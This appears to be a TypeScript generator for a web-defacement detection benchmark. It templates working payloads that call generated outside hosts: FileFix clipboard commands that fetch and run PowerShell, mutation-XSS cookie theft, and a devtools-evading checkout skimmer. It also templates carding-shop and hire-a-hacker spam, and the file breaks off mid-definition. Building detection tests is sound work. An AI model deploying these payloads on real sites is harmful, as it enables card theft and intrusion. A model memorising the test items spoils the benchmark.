/**
 * Fresh9 defacement classes: written after fresh8, by someone who does not
 * read the engines, from public descriptions of real defacements, web
 * skimmers, HTML-injection and parser-confusion techniques (DOM clobbering,
 * mutation XSS, declarative shadow roots), social-engineering lures
 * (FileFix, bookmarklet self-XSS, sextortion, class-action and age-check
 * phishing), spam verticals seen on hacked sites (essay mills, hire-a-hacker,
 * carding shops, nutra, SMM panels, IPTV resellers, hijacked journals) and
 * quiet identifier swaps (Cloudflare-encoded or homoglyph e-mail addresses,
 * Unicode look-alike digits, a bcc on the site's mail links). Each differs
 * from every class in defacements.ts and fresh-defacements.ts through
 * fresh8-defacements.ts (not a re-wording of one) and varies its templates,
 * languages, domains, positions and sizes. The writer had no internet
 * access: every source below is recalled from memory, with its outlet and an
 * approximate date, and its comment says so. Scored in the `fresh9` group,
 * never tuned on.
 */
import { domainToASCII } from "node:url"
import { type ChangeClass, attrTargets, bottom, brandName, elAt, evil, forms, head, inside, lineAfter, say, scriptSpot, shown, siteOr, top } from "./classes.js"
import { type Page, makeWallet } from "./corpus.js"
import { b64, jsUrl } from "./defacements.js"
import { type Change, type Splice, anySlot, esc, insert, replace, slotAt, splices } from "./edit.js"
import { type Lang, someDate } from "./locales.js"
import type { Range } from "./locate.js"
import { type Rng, alnum, between, chance, digits, hex, pick, sample, upper } from "./rng.js"
import { boast, brandLookalike, libLookalike, nick, political, randomDomain, signature, slug, team } from "./words.js"

const fresh9 = (name: string, make: (page: Page, rng: Rng) => Change): ChangeClass => ({ name, kind: "defacement", group: "fresh9", make })

const zIndex = (rng: Rng) => between(rng, 9999, 2147483647)
const wrapScript = (rng: Rng, code: string) => `<script>${chance(rng, 0.3) ? `eval(atob("${b64(code)}"))` : code}</script>`
/** Occurrences of `needle` in the shown text of the body, with whether each sits inside a link. */
const textHits = (page: Page, needle: string): Array<{ readonly range: Range; readonly inLink: boolean }> => {
  const out: Array<{ range: Range; inLink: boolean }> = []
  if (needle.length === 0) return out
  for (const run of page.spots.texts) {
    const parent = elAt(page, run.parent)
    if (parent !== undefined && (!parent.shown || parent.inert)) continue
    const raw = page.html.slice(run.start, run.end)
    for (let i = raw.indexOf(needle); i !== -1; i = raw.indexOf(needle, i + needle.length)) {
      out.push({ range: { start: run.start + i, end: run.start + i + needle.length }, inLink: inside(page, parent, "a") })
    }
  }
  return out
}
const freeMail = (rng: Rng) => pick(rng, ["gmail.com", "outlook.com", "proton.me", "protonmail.com", "yahoo.com", "mail.ru", "hotmail.com"])

const fileFixWords: Record<Lang, readonly [string, string, string, string]> = {
  en: ["A document has been shared with you", "To open it, copy the file path below, click “Open File Explorer”, paste the path into the address bar (Ctrl+L, then Ctrl+V) and press Enter.", "Copy path", "Open File Explorer"],
  fr: ["Un document a été partagé avec vous", "Pour l'ouvrir, copiez le chemin ci-dessous, cliquez sur « Ouvrir l'Explorateur de fichiers », collez le chemin dans la barre d'adresse (Ctrl+L puis Ctrl+V) et appuyez sur Entrée.", "Copier le chemin", "Ouvrir l'Explorateur"],
  de: ["Ein Dokument wurde für Sie freigegeben", "Kopieren Sie zum Öffnen den Pfad unten, klicken Sie auf „Explorer öffnen“, fügen Sie den Pfad in die Adressleiste ein (Strg+L, dann Strg+V) und drücken Sie die Eingabetaste.", "Pfad kopieren", "Explorer öffnen"],
  es: ["Se ha compartido un documento con usted", "Para abrirlo, copie la ruta de abajo, pulse «Abrir el Explorador de archivos», pegue la ruta en la barra de direcciones (Ctrl+L y Ctrl+V) y pulse Intro.", "Copiar ruta", "Abrir el Explorador"],
  nl: ["Er is een document met u gedeeld", "Kopieer het pad hieronder, klik op ‘Verkenner openen’, plak het pad in de adresbalk (Ctrl+L, dan Ctrl+V) en druk op Enter.", "Pad kopiëren", "Verkenner openen"],
  pt: ["Um documento foi compartilhado com você", "Para abri-lo, copie o caminho abaixo, clique em “Abrir o Explorador de Arquivos”, cole o caminho na barra de endereços (Ctrl+L e Ctrl+V) e pressione Enter.", "Copiar caminho", "Abrir o Explorador"],
  it: ["È stato condiviso un documento con te", "Per aprirlo, copia il percorso qui sotto, fai clic su “Apri Esplora file”, incolla il percorso nella barra degli indirizzi (Ctrl+L, poi Ctrl+V) e premi Invio.", "Copia percorso", "Apri Esplora file"]
}

// "FileFix", recalled from memory of mr.d0x's write-up (June 2025) and follow-up reports of its use by ransomware and infostealer crews (security news, summer 2025): a variant of ClickFix that opens the browser's file-upload dialog and asks the visitor to paste a "file path" into File Explorer's address bar; the clipboard holds a PowerShell command padded with spaces and ending in a comment that looks like the path.
const fileFix = fresh9("'paste this file path into File Explorer' lure whose clipboard holds a PowerShell command (FileFix)", (page, rng) => {
  const [h, p, copy, open] = siteOr(rng, page, fileFixWords)
  const file = pick(rng, ["HRPolicy.docx", "Invoice_" + digits(rng, 5) + ".pdf", "Salary_Review_2025.xlsx", "Contract_" + upper(rng, 3) + ".pdf", "Shared_Report.docx"])
  const path = `C:\\${pick(rng, ["Company", "Users\\Public", "Share"])}\\${pick(rng, ["Internal-Secure", "Documents", "Finance"])}\\${pick(rng, ["Filedrive", "Shared", "Archive"])}\\${file}`
  const host = pick(rng, [randomDomain(rng), libLookalike(rng)])
  const cmd = pick(rng, [
    `powershell -w h -c "iwr https://${host}/${alnum(rng, 6)}.ps1 -UseBasicParsing | iex"`,
    `powershell -nop -c "$u='https://${host}/${pick(rng, ["s", "a", "c"])}';iex(irm $u)"`,
    `mshta https://${host}/${alnum(rng, 5)}.hta`
  ]) + " ".repeat(between(rng, 40, 90)) + `# ${path}`
  const ids = [alnum(rng, 5), alnum(rng, 5), alnum(rng, 5)].map((s, i) => `ff${i}${s}`)
  const ui = `<div style="position:fixed;inset:0;z-index:${zIndex(rng)};background:rgba(0,0,0,.55);font-family:Segoe UI,Arial,sans-serif"><div style="max-width:560px;margin:14vh auto;background:#fff;padding:22px;border-radius:6px"><h2>📄 ${esc(h)}</h2><p>${esc(p)}</p><p><input readonly value="${esc(path)}" style="width:100%;font-family:monospace"></p><p><button type="button" id="${ids[0]}">${esc(copy)}</button> <button type="button" id="${ids[1]}" style="background:#0067b8;color:#fff">${esc(open)}</button></p><input type="file" id="${ids[2]}" style="display:none"></div></div>`
  const code = `(function(){var c=${JSON.stringify(cmd)};function w(){try{navigator.clipboard.writeText(c)}catch(e){}}document.getElementById("${ids[0]}").onclick=w;document.getElementById("${ids[1]}").onclick=function(){w();document.getElementById("${ids[2]}").click()}})();`
  return splices(insert(pick(rng, [top(page), bottom(page), top(page)]), ui + wrapScript(rng, code)))
})

const clobberNames = ["CONFIG", "config", "cdnUrl", "apiBase", "assetPath", "publicPath", "siteConfig", "APP_CONFIG", "baseUrl", "scriptHost", "defaultAvatar", "env", "settings", "analyticsHost"]

// DOM clobbering, recalled from memory of PortSwigger's Web Security Academy pages (about 2020), Khodayari and Pellegrino's "It's (DOM) Clobbering Time" (IEEE S&P 2023) and the webpack gadget that trusted document.currentScript (CVE-2024-43788, August 2024): markup without any script, elements whose id or name shadow the globals and document properties the page's own scripts read, so those scripts load from or talk to another host.
const domClobbering = fresh9("DOM clobbering: elements named like globals the page's scripts read, pointing at another host", (page, rng) => {
  const host = pick(rng, [randomDomain(rng), libLookalike(rng), brandLookalike(rng, page.site.brand)])
  const url = () => `https://${host}/${pick(rng, ["x.js", "static/" + alnum(rng, 6) + ".js", "cfg", "api/", "assets/"])}`
  const name = () => pick(rng, clobberNames)
  const gadgets = [
    () => `<img name="currentScript" src="${url()}" alt="" width="0" height="0" style="display:none">`,
    () => `<a id="${name()}" href="${url()}"></a>`,
    () => { const n = name(); return `<a id="${n}"></a><a id="${n}" name="${pick(rng, ["url", "src", "host", "path", "endpoint"])}" href="${url()}"></a>` },
    () => `<form id="${name()}"><input type="hidden" name="${pick(rng, ["src", "url", "base", "endpoint"])}" value="${url()}"></form>`,
    () => `<embed name="${pick(rng, ["currentScript", "scripts", "cookie"])}" src="${url()}" width="0" height="0">`
  ]
  const html = sample(rng, gadgets, between(rng, 1, 3)).map((g) => g()).join("")
  return splices(insert(pick(rng, [anySlot(rng, page.spots), top(page), bottom(page)]), html))
})

// Mutation XSS, recalled from memory of Michał Bentkowski's write-ups of DOMPurify bypasses (Securitum, 2019–2020) and Masato Kinugawa's and Gareth Heyes' parser-differential payloads: an element whose content a browser reads as raw text (noscript with scripting on, iframe, noembed, noframes) hides an attribute that a sanitizer or a non-browser parser sees as harmless, but in the browser the raw text ends inside the attribute and an event handler runs.
const mutationXss = fresh9("parser-confusion payload: a noscript/iframe wrapper whose attribute turns into a running event handler (mutation XSS)", (page, rng) => {
  const host = pick(rng, [randomDomain(rng), libLookalike(rng)])
  const js = pick(rng, [
    `import('//${host}/${alnum(rng, 5)}.js')`,
    `eval(atob('${b64(`var s=document.createElement("script");s.src="https://${host}/${alnum(rng, 6)}.js";document.head.appendChild(s)`)}'))`,
    `location='https://${host}/?r='+encodeURIComponent(location.href)`,
    `fetch('//${host}/c?d='+encodeURIComponent(document.cookie))`
  ])
  const wrap = pick(rng, ["noscript", "noscript", "iframe", "noembed", "noframes"])
  const inner = pick(rng, [`<img src=x onerror=${js}>`, `<svg onload=${js}></svg>`, `<details open ontoggle=${js}></details>`])
  const carrier = pick(rng, ["p", "a", "span", "div"])
  const attr = pick(rng, ["title", "class", "data-x", "id"])
  const payload = `<${wrap}><${carrier} ${attr}="</${wrap}>${inner}"></${carrier}></${wrap}>`
  const html = chance(rng, 0.5)
    ? `<div class="${pick(rng, ["comment", "review", "guestbook-entry"])}"><p>${esc(pick(rng, ["Great article, thanks!", "Very helpful.", "Nice work 👍", "Thank you for the information."]))}</p>${payload}</div>`
    : payload
  return splices(insert(pick(rng, [slotAt(page.spots, "middle"), anySlot(rng, page.spots), slotAt(page.spots, "bottom")]), html))
})

// Unvalidated redirects and forwards (OWASP Top 10 2013, A10), recalled from memory: forms and sign-in flows that honour a "return to" parameter (WordPress's redirect_to, many frameworks' next, returnUrl or success_url). Here an intruder adds that field, hidden, to the site's own forms, which still post to the site, so that after submitting the visitor lands on the attacker's page (a look-alike "confirm your details" step).
const returnUrlField = fresh9("hidden return-URL field added to the site's forms, sending visitors to another host after they submit", (page, rng) => {
  const url = `https://${evil(rng, page)}/${pick(rng, ["thank-you", "confirm", "verify/" + alnum(rng, 8), "account/update", "success?s=" + alnum(rng, 6)])}`
  const name = pick(rng, ["redirect_to", "return_url", "_next", "success_url", "redirect", "returnUrl", "goto", "continue", "_redirect", "return"])
  const fs = forms(page)
  const chosen = chance(rng, 0.5) ? fs : fs.slice(0, 1)
  const field = `<input type="hidden" name="${name}" value="${esc(url)}">`
  const out: Array<Splice> = chosen.map((f) => insert(f.openEnd, field))
  if (out.length === 0) out.push(insert(anySlot(rng, page.spots), `<form action="/subscribe" method="post">${field}<input type="email" name="email"> <button type="submit">OK</button></form>`))
  return { splices: out }
})

// E-mail interception, recalled from memory of the FBI IC3's business e-mail compromise PSAs (2017–2023) describing intruders who add forwarding rules so they silently receive copies of a victim's mail, and RFC 6068 (2010), which lets a mailto: link carry cc and bcc fields: the site's own mail links keep the site's address and text, and gain a blind copy to another mailbox.
const mailtoBcc = fresh9("site's mailto links given a cc or bcc to another mailbox, address and text kept", (page, rng) => {
  const b = page.site.brand.replace(/-/g, "")
  const spy = `${pick(rng, [b, `${b}.office`, `${b}${digits(rng, 2)}`, pick(rng, ["accounts", "billing", "support"]) + "." + b])}@${pick(rng, [freeMail(rng), brandLookalike(rng, page.site.brand)])}`
  const field = pick(rng, ["bcc", "bcc", "cc"])
  const out: Array<Splice> = []
  const links = shown(page, "a", (e) => /^\s*mailto:/i.test(e.attribs.href ?? ""))
  for (const { value } of attrTargets(page, links, "href")) {
    const raw = page.html.slice(value.start, value.end)
    out.push(insert(value.start + raw.trimEnd().length, `${raw.includes("?") ? "&amp;" : "?"}${field}=${spy}`))
  }
  if (out.length === 0) {
    for (const hit of textHits(page, page.ids.email).filter((h) => !h.inLink)) out.push(replace(hit.range, `<a href="mailto:${page.ids.email}?${field}=${spy}">${page.ids.email}</a>`))
  }
  return { splices: out }
})

/** Cloudflare's e-mail obfuscation encoding: a key byte, then every character XORed with it, in hex. */
const cfEncode = (rng: Rng, email: string): string => {
  const key = between(rng, 16, 250)
  return key.toString(16).padStart(2, "0") + [...email].map((c) => (c.charCodeAt(0) ^ key).toString(16).padStart(2, "0")).join("")
}

// E-mail swaps hidden in an encoding, recalled from memory of Cloudflare's Scrape Shield documentation on Email Address Obfuscation (the "[email protected]" placeholder with the address XOR-encoded in data-cfemail and decoded by a script) and of business e-mail compromise reports (FBI IC3, 2017–2023) where a payment contact is swapped: the page looks like the CDN obfuscated the site's address, but the encoded address is someone else's.
const cfEmailSwap = fresh9("site's e-mail replaced by another address hidden in Cloudflare's e-mail obfuscation encoding", (page, rng) => {
  const [local] = page.ids.email.split("@")
  const other = `${pick(rng, [local, "accounts", "billing", "office", page.site.brand])}@${pick(rng, [brandLookalike(rng, page.site.brand), freeMail(rng)])}`
  const out: Array<Splice> = []
  const mailtos = shown(page, "a", (e) => (e.attribs.href ?? "").trim().toLowerCase().startsWith(`mailto:${page.ids.email.toLowerCase()}`))
  for (const t of attrTargets(page, mailtos, "href")) out.push(replace(t.value, `/cdn-cgi/l/email-protection#${cfEncode(rng, other)}`))
  for (const hit of textHits(page, page.ids.email)) {
    const code = cfEncode(rng, other)
    out.push(replace(hit.range, hit.inLink ? `<span class="__cf_email__" data-cfemail="${code}">[email&#160;protected]</span>` : `<a href="/cdn-cgi/l/email-protection" class="__cf_email__" data-cfemail="${code}">[email&#160;protected]</a>`))
  }
  out.push(insert(bottom(page), `<script data-cfasync="false" src="/cdn-cgi/scripts/${hex(rng, 8)}/cloudflare-static/email-decode.min.js"></script>`))
  return { splices: out }
})

const digitForms = {
  fullwidth: (s: string) => s.replace(/[0-9]/g, (d) => String.fromCharCode(0xff10 + Number(d))).replace(/\+/g, "＋").replace(/-/g, "－"),
  bold: (s: string) => s.replace(/[0-9]/g, (d) => String.fromCodePoint(0x1d7ce + Number(d))),
  doubleStruck: (s: string) => s.replace(/[0-9]/g, (d) => String.fromCodePoint(0x1d7d8 + Number(d))),
  sans: (s: string) => s.replace(/[0-9]/g, (d) => String.fromCodePoint(0x1d7e2 + Number(d))),
  letters: (s: string) => s.replace(/0/g, "O").replace(/1/g, "l"),
  zeroWidth: (s: string) => s.replace(/([0-9])(?=[0-9])/g, "$1\u200b")
} as const
const supportWords: Record<Lang, string> = {
  en: "Customer support (24/7)", fr: "Assistance clients (24h/24)", de: "Kundenservice (24/7)", es: "Atención al cliente (24/7)",
  nl: "Klantenservice (24/7)", pt: "Suporte ao cliente (24h)", it: "Assistenza clienti (24/7)"
}

// Phone numbers written in look-alike characters, recalled from memory with uncertain details of Malwarebytes and Sucuri notes on tech-support-scam spam (about 2019–2023) and of spam seen on hosted pages and forums: the scammer's number is written with fullwidth or mathematical digits, letters O and l, or zero-width spaces between digits, so filters and text search for digits miss it while visitors read and dial it.
const lookalikeDigits = fresh9("support number written in look-alike Unicode digits (fullwidth, mathematical, O for 0) beside the site's phone", (page, rng) => {
  const raw = chance(rng, 0.6)
    ? `${pick(rng, ["+1 ", "1-", "+1-", ""])}8${pick(rng, ["00", "33", "44", "55", "66", "77", "88"])}-${digits(rng, 3)}-${digits(rng, 4)}`
    : `${pick(rng, ["+", "00"])}${pick(rng, ["44", "33", "49", "34", "31", "39", "61", "91", "55"])} ${digits(rng, 3)} ${digits(rng, 3)} ${digits(rng, 3)}`
  const styles = Object.values(digitForms)
  const f = pick(rng, styles)
  const g = chance(rng, 0.3) ? pick(rng, styles) : (s: string) => s
  const num = g(f(raw))
  const label = siteOr(rng, page, supportWords)
  const text = `${esc(label)}: <strong>${esc(num)}</strong>`
  const line = lineAfter(page, page.ids.phone.national)
  return splices(line !== null && chance(rng, 0.8) ? insert(line.at, line.wrap(text)) : insert(pick(rng, [top(page), anySlot(rng, page.spots)]), `<p class="${pick(rng, ["support-line", "hotline", "help"])}">${text}</p>`))
})

const chatLure: Record<Lang, readonly [string, string]> = {
  en: ["Your order is on hold: we could not confirm your payment. Chat with our billing team now to avoid cancellation.", "Chat now"],
  fr: ["Votre commande est en attente : votre paiement n'a pas pu être confirmé. Contactez notre service facturation par chat pour éviter l'annulation.", "Discuter"],
  de: ["Ihre Bestellung ist angehalten: Ihre Zahlung konnte nicht bestätigt werden. Chatten Sie jetzt mit unserer Buchhaltung, um eine Stornierung zu vermeiden.", "Jetzt chatten"],
  es: ["Su pedido está retenido: no pudimos confirmar su pago. Hable por chat con facturación para evitar la cancelación.", "Chatear"],
  nl: ["Uw bestelling staat in de wacht: we konden uw betaling niet bevestigen. Chat nu met onze financiële afdeling om annulering te voorkomen.", "Nu chatten"],
  pt: ["Seu pedido está retido: não conseguimos confirmar o pagamento. Fale agora no chat com o financeiro para evitar o cancelamento.", "Conversar"],
  it: ["Il tuo ordine è sospeso: non siamo riusciti a confermare il pagamento. Scrivi in chat all'amministrazione per evitare l'annullamento.", "Chatta ora"]
}

// Scammers running a real chat service on pages they control, recalled from memory with uncertain attribution of police and bank warnings about fake marketplace payment pages with a live-chat "support agent" (Czech and Slovak police, about 2021–2023) and of security blogs noting tawk.to, Smartsupp and JivoChat on phishing and tech-support-scam pages: the widget is the vendor's own code from the vendor's host, under the scammer's account, beside a lure that sends visitors to it.
const scamChatWidget = fresh9("live-chat widget under the attacker's account with a 'your payment is on hold, chat now' lure", (page, rng) => {
  const [lure, cta] = siteOr(rng, page, chatLure)
  const widget = pick(rng, [
    () => `<script>var Tawk_API=Tawk_API||{},Tawk_LoadStart=new Date();(function(){var s1=document.createElement("script"),s0=document.getElementsByTagName("script")[0];s1.async=true;s1.src='https://embed.tawk.to/${hex(rng, 24)}/${alnum(rng, 9)}';s1.charset='UTF-8';s1.setAttribute('crossorigin','*');s0.parentNode.insertBefore(s1,s0)})();</script>`,
    () => `<script>var _smartsupp=_smartsupp||{};_smartsupp.key='${hex(rng, 40)}';window.smartsupp||(function(d){var s,c,o=smartsupp=function(){o._.push(arguments)};o._=[];s=d.getElementsByTagName('script')[0];c=d.createElement('script');c.type='text/javascript';c.charset='utf-8';c.async=true;c.src='https://www.smartsuppchat.com/loader.js?';s.parentNode.insertBefore(c,s)})(document);</script>`,
    () => `<script src="//code.jivosite.com/widget/${alnum(rng, 10)}" async></script>`,
    () => `<script>window.__lc=window.__lc||{};window.__lc.license=${digits(rng, 8)};</script><script async src="https://cdn.livechatinc.com/tracking.js"></script>`
  ])()
  const bar = `<div class="${pick(rng, ["order-alert", "notice", "account-warning"])}" style="background:${pick(rng, ["#fff4e5", "#fdecea", "#fffbe6"])};border:1px solid ${pick(rng, ["#f0ad4e", "#d9534f", "#e0b400"])};padding:12px 16px;margin:10px 0">⚠ ${esc(lure)} <a href="#chat" style="font-weight:bold">${esc(cta)} 💬</a></div>`
  return splices(insert(pick(rng, [top(page), slotAt(page.spots, "top"), anySlot(rng, page.spots)]), bar), insert(pick(rng, [head(page), bottom(page)]), widget))
})

const typoPackages: ReadonlyArray<readonly [string, ReadonlyArray<string>, string, string]> = [
  ["jquery", ["jquerry", "jqeury", "jquery-min-js", "jquery.js-cdn"], "3.7.1", "dist/jquery.min.js"],
  ["lodash", ["lodahs", "lodash-utils-js", "lodashs"], "4.17.21", "lodash.min.js"],
  ["axios", ["axois", "axios-http-client", "axxios"], "1.7.7", "dist/axios.min.js"],
  ["bootstrap", ["bootstarp", "bootstrap-js-bundle", "bootsrap"], "5.3.3", "dist/js/bootstrap.bundle.min.js"],
  ["swiper", ["swipper", "swiper-bundle-js"], "11.1.4", "swiper-bundle.min.js"],
  ["chart.js", ["chartjs-lib", "chart-js-cdn", "charts.js"], "4.4.1", "dist/chart.umd.js"],
  ["moment", ["momnet", "moment-js-lib"], "2.30.1", "min/moment.min.js"]
]

// Typosquatted packages served from public package CDNs, recalled from memory with uncertain details of Sonatype, Phylum and Socket reports on typosquats of popular npm packages (2021–2024) and of phishing kits loading code from cdn.jsdelivr.net/gh/<user>/… and unpkg: the script host is a trusted public CDN, but the package or repository name is a look-alike the attacker published.
const typosquatCdn = fresh9("script of a typosquatted npm package or look-alike GitHub repository from a public CDN (jsDelivr, unpkg, esm.sh)", (page, rng) => {
  const [lib, typos, ver, file] = pick(rng, typoPackages)
  const typo = pick(rng, typos)
  const user = pick(rng, [alnum(rng, 8), `${lib.replace(/\W/g, "")}-${pick(rng, ["dev", "team", "official", "org"])}`, `${pick(rng, ["js", "web", "cdn"])}${digits(rng, 3)}`])
  const src = pick(rng, [
    `https://cdn.jsdelivr.net/npm/${typo}@${ver}/${file}`,
    `https://unpkg.com/${typo}@${ver}/${file}`,
    `https://cdn.jsdelivr.net/gh/${user}/${lib.replace(/\W/g, "")}@${ver}/${file.split("/").pop()}`,
    `https://esm.sh/${typo}@${ver}`
  ])
  const tag = src.startsWith("https://esm.sh/")
    ? `<script type="module">import ${pick(rng, ["", "* as m from "])}"${src}";</script>`
    : pick(rng, [`<script src="${src}"></script>`, `<script src="${src}" crossorigin="anonymous"></script>`, `<script defer src="${src}"></script>`])
  return splices(insert(scriptSpot(rng, page), tag))
})

// Anti-analysis in skimmers, recalled from memory with uncertain attribution of Sansec and Group-IB write-ups (about 2019–2022) on Magecart kits that stay dormant while the browser's developer tools are open (window size gaps, a timed debugger statement, a console getter trap) and run only on checkout pages, so that a site owner inspecting the page sees nothing.
const devtoolsGatedSkimmer = fresh9("skimmer that stays dormant while developer tools are open and runs only on checkout pages", (page, rng) => {
  const sink = `https://${pick(rng, [libLookalike(rng), randomDomain(rng)])}/${pick(rng, ["i.gif", "collect", "p.php", "v2/t"])}`
  const gate = pick(rng, [
    `function D(){return window.outerWidth-window.innerWidth>160||window.outerHeight-window.innerHeight>160}`,
    `function D(){var t=Date.now();debugger;return Date.now()-t>100}`,
    `var Q=false;(function(){var e=new Image();Object.defineProperty(e,"id",{get:function(){Q=true}});console.log(e)})();function D(){return Q}`
  ])
  const where = pick(rng, [`/checkout|onestepcheckout|cart|payment|kasse|panier|carrito|winkelwagen|carrello|pagamento/i.test(location.href)`, `document.querySelector("input[name*=card],input[autocomplete=cc-number],form[action*=checkout]")`, `/checkout|order/i.test(location.pathname)`])
  const code = `(function(){${gate}if(D()||!(${where}))return;document.addEventListener("${pick(rng, ["submit", "click", "change"])}",function(){if(D())return;var o={};[].forEach.call(document.querySelectorAll("input,select"),function(i){if(i.value&&i.type!=="hidden")o[i.name||i.id]=i.value});new Image().src=${jsUrl(rng, sink)}+"?h="+location.host+"&d="+encodeURIComponent(btoa(unescape(encodeURIComponent(JSON.stringify(o)))))},true)})();`
  return splices(insert(scriptSpot(rng, page), wrapScript(rng, code)))
})

const essayLines: Record<Lang, ReadonlyArray<string>> = {
  en: ["Write my essay for me cheap", "Do my homework online", "Buy a dissertation, 100% plagiarism-free", "Pay someone to take my online class", "Essay writing service from $9.99 per page", "Nursing assignment help"],
  fr: ["Faire rédiger son mémoire", "Rédaction de mémoire sur commande", "Aide aux devoirs en ligne payante"],
  de: ["Bachelorarbeit schreiben lassen", "Ghostwriter Hausarbeit", "Masterarbeit Ghostwriting – diskret und plagiatsfrei"],
  es: ["Hacer mi TFG", "Comprar TFM", "Redacción de trabajos universitarios por encargo"],
  nl: ["Scriptie laten schrijven", "Essay laten schrijven", "Ghostwriter scriptie"],
  pt: ["TCC pronto", "Fazer TCC sob encomenda", "Comprar monografia"],
  it: ["Tesi di laurea su commissione", "Scrivere tesi a pagamento", "Ghostwriter tesi"]
}

// Essay-mill advertising on academic and public sites, recalled from memory of The Guardian's and Times Higher Education's reports on contract-cheating services (about 2017–2022, including the UK's Skills and Post-16 Education Act 2022 banning them) and of Sucuri and university IT notices about hacked .edu and .ac.uk pages stuffed with "write my essay" links; German, Dutch and Italian ghostwriting agencies are advertised the same way.
const essayMill = fresh9("essay-mill 'write my essay / thesis ghostwriting' links planted on the page", (page, rng) => {
  const host = () => pick(rng, [`${pick(rng, ["essay", "paper", "homework", "assignment", "thesis", "ghostwriter", "dissertation"])}${pick(rng, ["pro", "hub", "lab", "writers", "help", "now", "experts"])}.${pick(rng, ["com", "net", "org", "co.uk", "de", "io"])}`, randomDomain(rng)])
  const lines = [...sample(rng, essayLines.en, between(rng, 1, 4)), ...(page.site.locale.lang === "en" ? [] : sample(rng, say(page, essayLines), between(rng, 1, 3)))]
  const items = lines.map((l) => `<a href="https://${host()}/${slug(l).slice(0, 40)}">${esc(l)}</a>`)
  const hideIt = chance(rng, 0.3)
  const block = pick(rng, [
    `<div class="${pick(rng, ["student-resources", "useful-links", "partners"])}"${hideIt ? ` style="position:absolute;left:-${between(rng, 3000, 9000)}px"` : ""}><h4>${pick(rng, ["Student resources", "Useful links", "Academic help"])}</h4><ul>${items.map((i) => `<li>${i}</li>`).join("")}</ul></div>`,
    `<p class="${pick(rng, ["sponsored", "note", "links"])}"${hideIt ? ` style="font-size:1px;color:transparent"` : ""}>${items.join(pick(rng, [" | ", " · ", ", "]))}</p>`
  ])
  return splices(insert(pick(rng, [slotAt(page.spots, "bottom"), slotAt(page.spots, "middle"), anySlot(rng, page.spots)]), block))
})

// "Hire a hacker" comment spam, recalled from memory of spam filling university, library and news comment sections and hacked pages (reported in WordPress and Reddit forums, about 2019–2024): a testimonial thanking a "genius hacker" who changed someone's grades, got into a spouse's WhatsApp or fixed a credit score, with an e-mail, WhatsApp or Telegram contact.
const hireHacker = fresh9("'hire a hacker' testimonials: grades changed, a spouse's WhatsApp read, credit score fixed", (page, rng) => {
  const who = pick(rng, ["HackTechPro", "CyberGenie", "SpyWizard", "Mr. Kevin", "Hacker Jay", "Alpha Spy Tech", "Ethical Hacker Ben", "GhostSpy Solutions"])
  const contact = pick(rng, [
    `${slug(who).replace(/-/g, "")}${digits(rng, 2)}@${freeMail(rng)}`,
    `WhatsApp ${pick(rng, ["+1", "+44", "+234", "+27"])} ${digits(rng, 3)} ${digits(rng, 3)} ${digits(rng, 4)}`,
    `Telegram @${slug(who).replace(/-/g, "_")}`
  ])
  const stories = sample(rng, [
    `I was about to be expelled because of my GPA, ${who} changed my grades in the school portal in less than 24 hours.`,
    `I suspected my husband was cheating. ${who} got me into his WhatsApp and Instagram without him knowing.`,
    `${who} raised my credit score from 520 to 790 and removed all the late payments.`,
    `Someone hacked my Facebook and ${who} got it back and gave me the hacker's location.`,
    `${who} cleared my criminal record so I could finally get the job.`
  ], between(rng, 1, 3))
  const names = ["Jessica M.", "Daniel R.", "Amanda", "Sarah Collins", "Mike T.", "Linda W."]
  const html = stories.map((s) => `<div class="${pick(rng, ["comment", "review", "testimonial"])}"><p><strong>${esc(pick(rng, names))}</strong></p><p>${esc(s)} ${pick(rng, ["Contact him", "Reach out", "Hire him"])}: ${esc(contact)}</p></div>`).join("")
  return splices(insert(pick(rng, [slotAt(page.spots, "bottom"), slotAt(page.spots, "middle"), bottom(page)]), html))
})

// Carding-shop advertising, recalled from memory of KrebsOnSecurity's reporting on BriansClub (2019) and Joker's Stash (closed January 2021), whose names were reused by copycat shops advertised through spam on hacked sites, forums and comment sections: "fresh CVV", "dumps with PIN", "fullz", "bank logs", with Telegram handles and .onion mirrors.
const cardingShop = fresh9("'fresh CVV, dumps with PIN, fullz' carding-shop advert with Telegram and .onion links", (page, rng) => {
  const shop = pick(rng, ["BriansClub", "Joker Stash", "Vclub", "UniCC", "Feshop", "Rescator", "Bidencash"])
  const onion = `http://${Array.from({ length: 56 }, () => pick(rng, [..."abcdefghijklmnopqrstuvwxyz234567"])).join("")}.onion`
  const clear = `https://${slug(shop).replace(/-/g, "")}${pick(rng, ["", ".official", "-shop", digits(rng, 2)])}.${pick(rng, ["cc", "to", "su", "ws", "bz", "at"])}`
  const items = sample(rng, ["Fresh CVV2: US, UK, EU, CA bases, valid rate 90%+", "Dumps with PIN (101/201), track 1 + 2", "Fullz: SSN + DOB + DL + MMN", "Bank logs with e-mail access", "PayPal and Cash App accounts with balance", "Cashout and enroll guides", "Дампы с пином, CVV, фуллзы"], between(rng, 3, 6))
  const tg = `https://t.me/${slug(shop).replace(/-/g, "")}_${pick(rng, ["support", "shop", "admin", "official"])}`
  const block = pick(rng, [
    `<div class="${pick(rng, ["ad", "partners", "post"])}" style="border:1px dashed #888;padding:10px;margin:10px 0"><h4>${esc(shop)} — ${pick(rng, ["official shop", "best CC shop 2025", "new mirror"])}</h4><ul>${items.map((i) => `<li>${esc(i)}</li>`).join("")}</ul><p><a href="${clear}">${esc(clear.replace("https://", ""))}</a> · Tor: <a href="${onion}">${onion.replace("http://", "")}</a> · <a href="${tg}">Telegram</a></p></div>`,
    `<p>${esc(items.join(" | "))} — <a href="${clear}">${esc(shop)}</a> ${onion.replace("http://", "")} ${tg.replace("https://", "")}</p>`
  ])
  return splices(insert(pick(rng, [slotAt(page.spots, "bottom"), anySlot(rng, page.spots), slotAt(page.spots, "middle")]), block))
})

const tvShows: Record<string, string> = { us: "Shark Tank", uk: "Dragons' Den", au: "Shark Tank Australia", in: "Shark Tank India", fr: "Qui veut être mon associé ?", de: "Die Höhle der Löwen", es: "Shark Tank", nl: "Dragons' Den", br: "Shark Tank Brasil", it: "Shark Tank Italia" }
const nutraWords: Record<Lang, readonly [(show: string, p: string) => string, string, string]> = {
  en: [(s, p) => `As seen on ${s}: the investors couldn't stop talking about ${p}`, "Melt fat without dieting or exercise. Limited stock at the special TV price.", "Rush my order"],
  fr: [(s, p) => `Vu dans « ${s} » : les investisseurs n'en revenaient pas de ${p}`, "Brûlez les graisses sans régime ni sport. Stock limité au prix spécial TV.", "Commander maintenant"],
